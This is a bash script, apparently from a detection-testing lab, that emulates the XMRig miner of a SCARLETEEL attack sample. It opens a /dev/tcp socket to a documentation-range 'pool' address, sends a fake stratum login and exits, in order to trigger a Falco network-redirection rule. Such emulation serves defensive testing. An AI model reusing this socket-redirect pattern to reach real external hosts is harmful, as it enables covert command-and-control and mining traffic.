#!/bin/bash
# Harmless stand-in for the XMRig miner of the SCARLETEEL sample (served by c2_mock.py,
# saved by the attacker as /root/.configure/containerd). It mines nothing: it opens a
# TCP connection to the fake pool (TEST-NET-2 address, inside the sample's private
# network namespace), sends one stratum-like login line, prints the reply and exits.
exec 3<>/dev/tcp/198.51.100.23/3333
printf '%s\n' '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4FAKEWALLETcasefileSCARLETEELsampleNOTREAL","pass":"x","agent":"XMRig/6.18.1"}}' >&3
# `printf >&3` above makes bash dup2 the socket onto stdout for the builtin (Falco's
# "Redirect STDOUT/STDIN to Network Connection in Container" sees it); read -u 3 reads
# the socket without another redirection, one byte per syscall (the reply is short).
IFS= read -r -t 5 -u 3 reply || true
echo "pool: $reply"
exec 3<&-
